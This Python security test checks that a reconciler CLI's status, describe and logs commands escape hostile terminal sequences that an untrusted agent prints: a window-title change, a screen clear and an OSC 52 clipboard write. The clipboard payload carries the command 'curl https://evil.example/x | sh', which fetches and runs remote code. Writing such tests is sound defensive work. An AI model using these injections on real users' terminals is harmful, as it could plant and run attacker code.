"""Attacks on the operator's terminal (design §9: everything root prints is safe to print).

An agent, untrusted code running as its lane user, prints escape sequences meant for whoever
reads its output: a new window title (OSC 0), a cleared screen (CSI 2J) and a clipboard write
(OSC 52), both as raw output and inside the events it reports. The operator, as root, reads
``status``, ``describe`` and ``logs`` on a real terminal (a pty): only the CLI's own colours may
reach it. Piped, ``logs --raw`` keeps the agent's bytes.
"""

from __future__ import annotations

import base64
import json
import os
import pty
import re
import select
import subprocess
import tty
from collections.abc import Callable
from pathlib import Path

from tests.security.security_support import Control, doc, lane_doc, require_root, task_doc
from tests.support.linux_users import User, agent_python

require_root()

CLIPBOARD = base64.b64encode(b"curl https://evil.example/x | sh\n").decode()
ATTACK = f"\x1b]0;owned\x07\x1b[2J\x1b]52;c;{CLIPBOARD}\x07"
SHOWN = f"\\x1b]0;owned\\x07\\x1b[2J\\x1b]52;c;{CLIPBOARD}\\x07"
EVENT = {"type": "assistant", "message": {"content": [{"type": "text", "text": f"hi {ATTACK}"}]}}
AGENT = f"""
import sys, time
sys.stdin.read()
sys.stdout.write({ATTACK + "raw" + chr(10) + json.dumps(EVENT) + chr(10)!r})
sys.stdout.flush()
time.sleep(3600)
"""
# what a terminal must not get: C0 but newline and tab, DEL, C1, bidi overrides and isolates
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
OWN_COLOURS = re.compile(r"\x1b\[[0-9;]*m")


def on_a_terminal(control: Control, *args: str) -> str:
    """``reconciler ARGS`` as root with stdout and stderr on a pty; what the terminal got."""
    master, slave = pty.openpty()
    tty.setraw(slave)  # no newline translation: the bytes exactly as the CLI wrote them
    proc = subprocess.Popen(
        [control.python, "-m", "reconciler", *args],
        stdin=subprocess.DEVNULL,
        stdout=slave,
        stderr=slave,
        env=control.env(),
    )
    os.close(slave)
    chunks: list[bytes] = []
    try:
        while True:
            ready, _, _ = select.select([master], [], [], 180)
            if not ready:
                proc.kill()
                raise AssertionError(f"reconciler {' '.join(args)} wrote nothing for 180 s")
            try:
                data = os.read(master, 1 << 16)
            except OSError:  # EIO: every writer closed the terminal
                break
            if not data:
                break
            chunks.append(data)
    finally:
        os.close(master)
        proc.wait(timeout=60)
    return b"".join(chunks).decode("utf-8", "replace")


def test_an_agents_escape_sequences_never_reach_the_operators_terminal(
    make_user: Callable[[], User], control: Control, agents: Path
) -> None:
    user = make_user()
    user.write(user.home / ".claude/.credentials.json", "{}", mode=0o600)  # a claude login
    script = agents / "escapes.py"
    script.write_text(AGENT)
    script.chmod(0o755)
    control.commit(
        lane_doc(user, "web"),
        doc("Agent", "evil", {"kind": "claude", "command": [agent_python(), str(script)]}),
        task_doc("evil", "web", agent="evil"),
    )
    for _ in range(60):  # until the agent's last event is what status reports
        control.apply()
        status = control.status()["tasks"][0]
        if status["phase"] == "running" and "owned" in status["reason"]:
            break
    assert ATTACK in status["reason"], status  # the attack is in place: JSON escapes it

    seen = {
        " ".join(args): on_a_terminal(control, *args)
        for args in (("status",), ("describe", "evil"), ("logs", "evil"), ("logs", "evil", "--raw"))
    }
    for name, text in seen.items():
        assert SHOWN in text, f"{name} does not show the sequences as text:\n{text!r}"
        leftover = FORBIDDEN.findall(OWN_COLOURS.sub("", text))
        assert not leftover, f"{name} let {leftover} reach the terminal:\n{text!r}"
    assert "\x1b[36mrunning\x1b[0m" in seen["status"]  # the CLI's own colours still work

    piped = control.cli("logs", "evil", "--raw")
    assert piped.returncode == 0, piped.stderr
    assert piped.stdout == f"{ATTACK}raw\n{json.dumps(EVENT)}\n"  # as the agent wrote it
    rendered = control.cli("logs", "evil")
    assert f"{ATTACK}raw\n" in rendered.stdout and f"hi {ATTACK}" in rendered.stdout
